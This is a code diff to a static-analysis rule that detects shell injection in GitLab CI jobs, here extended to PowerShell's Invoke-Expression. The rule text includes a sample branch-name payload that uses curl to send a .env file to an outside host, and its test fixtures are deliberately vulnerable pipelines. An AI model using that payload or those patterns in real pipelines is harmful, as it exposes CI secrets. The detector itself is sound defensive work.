@@ -87,8 +87,12 @@ const SHELLS = new Set(['sh', 'bash', 'dash', 'zsh', 'ksh', 'ash', 'mksh', 'su']
 interface WindowsForms {
   percent?: boolean;
   env?: boolean;
-  /** `$NAME` (default true): PowerShell reads it as one of its own variables, not the environment's. */
-  posix?: boolean;
+  /**
+   * PowerShell's own text (Invoke-Expression's): a backtick escapes the next character and
+   * substitutes no command. `$NAME` is read there too: GitLab's runner sets each CI/CD
+   * variable as a variable of the script as well as in its environment.
+   */
+  powershell?: boolean;
 }
 
 /**
@@ -97,7 +101,7 @@ interface WindowsForms {
  * command substitutions (`$(...)`, backticks), whose output becomes part of the text. What
  * a substitution expands inside is its own argument, not part of the text.
  * Windows variable names, which Windows takes in any case, are given in upper case;
- * PowerShell (which reads `$NAME` as its own variable) has no backtick substitution.
+ * PowerShell has no backtick substitution (a backtick escapes there).
  */
 function expansionsOf(script: string, offset: number, forms: WindowsForms = {}): { names: string[]; commands: string[] } {
   const names: string[] = [];
@@ -120,7 +124,7 @@ function expansionsOf(script: string, offset: number, forms: WindowsForms = {}):
       if (c === "'") quote = undefined;
       continue;
     }
-    if (c === '\\') {
+    if (c === (forms.powershell ? '`' : '\\')) {
       i++;
       continue;
     }
@@ -130,7 +134,7 @@ function expansionsOf(script: string, offset: number, forms: WindowsForms = {}):
     else if (c === '`' && depth === 0) {
       if (backtick < 0) backtick = i;
       else {
-        if (forms.posix !== false) commands.push(script.slice(backtick + 1, i));
+        commands.push(script.slice(backtick + 1, i));
         backtick = -1;
       }
     } else if (c === '$' && script[i + 1] === '(') {
@@ -143,7 +147,7 @@ function expansionsOf(script: string, offset: number, forms: WindowsForms = {}):
       const env = forms.env ? /^\$(?:\{env:([A-Za-z_]\w*)\}|env:([A-Za-z_]\w*))/i.exec(script.slice(i, i + 80)) : null;
       const name = /^\$(?:\{([A-Za-z_]\w*)|([A-Za-z_]\w*))/.exec(script.slice(i, i + 80));
       if (env) names.push((env[1] ?? env[2]!).toUpperCase());
-      else if (name && forms.posix !== false) names.push(name[1] ?? name[2]!);
+      else if (name) names.push(name[1] ?? name[2]!);
     }
   }
   return { names, commands };
@@ -255,7 +259,7 @@ function windowsSinks(words: readonly ShellWord[]): Array<{ word: ShellWord; sin
   const program = basename(words[0]?.text.replace(/\\/g, '/') ?? '');
   if (INVOKE_EXPRESSION.test(program)) {
     // Invoke-Expression [-Command] text: PowerShell expands $env:NAME in it first.
-    return words.slice(1).filter((w) => !/^-Command$/i.test(w.text)).map((word) => ({ word, sink: 'Invoke-Expression', forms: { env: true, posix: false } }));
+    return words.slice(1).filter((w) => !/^-Command$/i.test(w.text)).map((word) => ({ word, sink: 'Invoke-Expression', forms: { env: true, powershell: true } }));
   }
   if (CMD.test(program)) {
     const at = words.findIndex((w, k) => k > 0 && /^\/[ck]$/i.test(w.text));
@@ -418,7 +422,7 @@ const scriptInjection = gitlabRule({
   id: 'iac/gitlab-script-injection',
   title: 'Commit or merge request text run as shell code in CI',
   description:
-    'A job passes a predefined variable whose text a contributor writes (CI_COMMIT_MESSAGE, CI_COMMIT_BRANCH, CI_COMMIT_REF_NAME, CI_MERGE_REQUEST_TITLE, CI_MERGE_REQUEST_SOURCE_BRANCH_NAME...) to a command that reads it again as shell code: `eval`, the script of `sh -c "..."` (bash, zsh, su -c, also through docker exec or kubectl exec), the remote command of `ssh host ...` (also run by sshpass), which ssh joins into one line for the remote shell to parse (quoting it locally does not help there), the body of a here-document that a shell or ssh reads as its script (`bash <<EOF`, `cat <<EOF | ssh host`: the job\'s shell expands every $NAME of the body first, quotes in it being text; a quoted delimiter, `<<\'EOF\'`, expands nothing), or on Windows the command line of `cmd /c` (which expands %NAME% itself), the text of PowerShell\'s Invoke-Expression and of `pwsh -Command` (with $env:NAME). GitLab hands predefined variables to the job as environment variables, so `echo "$CI_COMMIT_MESSAGE"` only prints the text; but once expanded into the text that eval or sh -c parses, a commit message or branch name such as `x;curl${IFS}-d@.env${IFS}example.org` runs as a command, with the job\'s CI/CD variables. Git allows `$(...)`, `;` and quotes in branch and tag names. A variable of the file set from one of them (`BRANCH: $CI_COMMIT_BRANCH`, expanded by GitLab when it creates the job) carries it too, and so does a shell variable a line of the job\'s before_script or script sets from one (`export MSG="$CI_COMMIT_MESSAGE"`) before a later line runs it (`eval "$MSG"`). So does what a git command prints of the commits, set into a variable (`MSG=$(git log -1 --pretty=%B)`, `` AUTHOR=`git show -s --format=%an` ``) or substituted straight into the code (`eval "notify $(git log -1 --format=%s)"`: the job\'s shell runs git, and eval parses its output): the message (%s, %b, %B, --oneline and the named formats), the author\'s and committer\'s names and emails (%an, %ae, %cn, %ce), the branch and tag names decorating a commit (%d, %D); not hashes, dates or %f. The name of the branch checked out (`git rev-parse --abbrev-ref HEAD`, `git branch --show-current`) counts once the job checks out a branch under a name a contributor wrote (`git checkout -B "$CI_COMMIT_REF_NAME"`): GitLab checks out the commit with HEAD detached, where git prints `HEAD`. The tag name and message (CI_COMMIT_TAG, CI_COMMIT_TAG_MESSAGE), which only members allowed to push tags write, are reported as medium, and so is the profile name of the user who started the pipeline (GITLAB_USER_NAME: free text that user chooses, a member who can run pipelines); their username (GITLAB_USER_LOGIN) takes only letters, digits and `_.-` and is not reported. The commit\'s author (CI_COMMIT_AUTHOR, `Name <email>` as git records it) is whatever the commit says. A variable inside single quotes or escaped (`sh -c \'echo "$CI_COMMIT_BRANCH"\'`) is expanded by the inner shell as data and is not reported. Nor is a branch or tag name that the conditions a job runs under fix to one the pipeline names: rules (the job\'s, or the workflow\'s) whose every entry that lets it run compares it (`if: $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH`, `if: $CI_COMMIT_TAG =~ /^v\\d+\\.\\d+\\.\\d+$/`, a pattern anchored at both ends that takes only letters, digits and `._/+-`), or `only:` refs that name branches so (`only: [main]`); such a branch pipeline has no merge request text either. A template\'s script counts as fixed only when every job of the file that runs it is. The shell scripts of the repository that a job runs (`- ./ci/build.sh`, `- bash ci/release.sh`) are read and judged too, on their own lines.',
+    'A job passes a predefined variable whose text a contributor writes (CI_COMMIT_MESSAGE, CI_COMMIT_BRANCH, CI_COMMIT_REF_NAME, CI_MERGE_REQUEST_TITLE, CI_MERGE_REQUEST_SOURCE_BRANCH_NAME...) to a command that reads it again as shell code: `eval`, the script of `sh -c "..."` (bash, zsh, su -c, also through docker exec or kubectl exec), the remote command of `ssh host ...` (also run by sshpass), which ssh joins into one line for the remote shell to parse (quoting it locally does not help there), the body of a here-document that a shell or ssh reads as its script (`bash <<EOF`, `cat <<EOF | ssh host`: the job\'s shell expands every $NAME of the body first, quotes in it being text; a quoted delimiter, `<<\'EOF\'`, expands nothing), or on Windows the command line of `cmd /c` (which expands %NAME% itself), the text of PowerShell\'s Invoke-Expression and of `pwsh -Command` (with $env:NAME, or $NAME: GitLab\'s runner sets each variable in the PowerShell script too). GitLab hands predefined variables to the job as environment variables, so `echo "$CI_COMMIT_MESSAGE"` only prints the text; but once expanded into the text that eval or sh -c parses, a commit message or branch name such as `x;curl${IFS}-d@.env${IFS}example.org` runs as a command, with the job\'s CI/CD variables. Git allows `$(...)`, `;` and quotes in branch and tag names. A variable of the file set from one of them (`BRANCH: $CI_COMMIT_BRANCH`, expanded by GitLab when it creates the job) carries it too, and so does a shell variable a line of the job\'s before_script or script sets from one (`export MSG="$CI_COMMIT_MESSAGE"`) before a later line runs it (`eval "$MSG"`). So does what a git command prints of the commits, set into a variable (`MSG=$(git log -1 --pretty=%B)`, `` AUTHOR=`git show -s --format=%an` ``) or substituted straight into the code (`eval "notify $(git log -1 --format=%s)"`: the job\'s shell runs git, and eval parses its output): the message (%s, %b, %B, --oneline and the named formats), the author\'s and committer\'s names and emails (%an, %ae, %cn, %ce), the branch and tag names decorating a commit (%d, %D); not hashes, dates or %f. The name of the branch checked out (`git rev-parse --abbrev-ref HEAD`, `git branch --show-current`) counts once the job checks out a branch under a name a contributor wrote (`git checkout -B "$CI_COMMIT_REF_NAME"`): GitLab checks out the commit with HEAD detached, where git prints `HEAD`. The tag name and message (CI_COMMIT_TAG, CI_COMMIT_TAG_MESSAGE), which only members allowed to push tags write, are reported as medium, and so is the profile name of the user who started the pipeline (GITLAB_USER_NAME: free text that user chooses, a member who can run pipelines); their username (GITLAB_USER_LOGIN) takes only letters, digits and `_.-` and is not reported. The commit\'s author (CI_COMMIT_AUTHOR, `Name <email>` as git records it) is whatever the commit says. A variable inside single quotes or escaped (`sh -c \'echo "$CI_COMMIT_BRANCH"\'`) is expanded by the inner shell as data and is not reported. Nor is a branch or tag name that the conditions a job runs under fix to one the pipeline names: rules (the job\'s, or the workflow\'s) whose every entry that lets it run compares it (`if: $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH`, `if: $CI_COMMIT_TAG =~ /^v\\d+\\.\\d+\\.\\d+$/`, a pattern anchored at both ends that takes only letters, digits and `._/+-`), or `only:` refs that name branches so (`only: [main]`); such a branch pipeline has no merge request text either. A template\'s script counts as fixed only when every job of the file that runs it is. The shell scripts of the repository that a job runs (`- ./ci/build.sh`, `- bash ci/release.sh`) are read and judged too, on their own lines.',
   remediation: 'Do not build shell code from these variables: run the command directly with the variable quoted (`deploy --branch "$CI_COMMIT_BRANCH"`), or pass it to the inner shell as an argument (`sh -c \'deploy --branch "$1"\' sh "$CI_COMMIT_BRANCH"`); use CI_COMMIT_REF_SLUG where a name must be safe.',
   severity: 'high',
   cwe: ['CWE-78', 'CWE-94'],
@@ -438,6 +442,8 @@ const scriptInjection = gitlabRule({
       pipeline('deploy:\n  # expect\n  script:\n    # detail\n    - sshpass -e ssh deploy@app.example.org "./deploy.sh $CI_COMMIT_REF_NAME"\n'),
       pipeline('deploy:\n  tags: [windows]\n  # expect\n  script:\n    # detail\n    - cmd /c "notify %CI_COMMIT_MESSAGE%"\n'),
       pipeline('deploy:\n  tags: [windows]\n  # expect\n  script:\n    # detail\n    - Invoke-Expression "notify $env:CI_MERGE_REQUEST_TITLE"\n'),
+      // GitLab's runner sets each variable as a variable of the PowerShell script too.
+      pipeline('deploy:\n  tags: [windows]\n  # expect\n  script:\n    # detail\n    - iex "notify --title $CI_MERGE_REQUEST_TITLE"\n'),
       // The profile name of whoever started the pipeline (medium), and the commit's author.
       pipeline('announce:\n  # expect\n  script:\n    # detail\n    - eval "notify --by \'$GITLAB_USER_NAME\'"\n    # detail\n    - ssh deploy@app.example.org ./record.sh "$CI_COMMIT_AUTHOR"\n'),
       // What git prints of the commit, set into a variable or substituted straight into the code.
